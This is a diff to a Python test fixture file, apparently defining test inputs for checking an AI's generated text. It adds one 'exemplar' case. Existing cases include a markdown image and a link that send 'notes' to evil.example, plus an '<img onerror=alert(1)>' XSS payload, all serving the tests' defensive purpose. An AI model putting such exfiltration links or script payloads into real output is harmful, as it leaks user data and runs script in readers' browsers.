@@ -118,6 +118,7 @@ TEXTS: dict[str, str] = {
     "bad-evidence": text_of(
         but(recap=[{"lines": [2], "quote": "double every salary", "sentence": GOOD["recap"][0]["sentence"]}])
     ),
+    "exemplar": _JSON.replace("by Christmas,", "by Christmas with about 40 people,"),
     "markdown-exfil": _ask("![x](https://evil.example/p?d=notes) All the best."),
     "link": _ask("More is at https://evil.example/p?d=notes for you."),
     "html": _ask("<img src=x onerror=alert(1)> <b>Thanks</b>."),
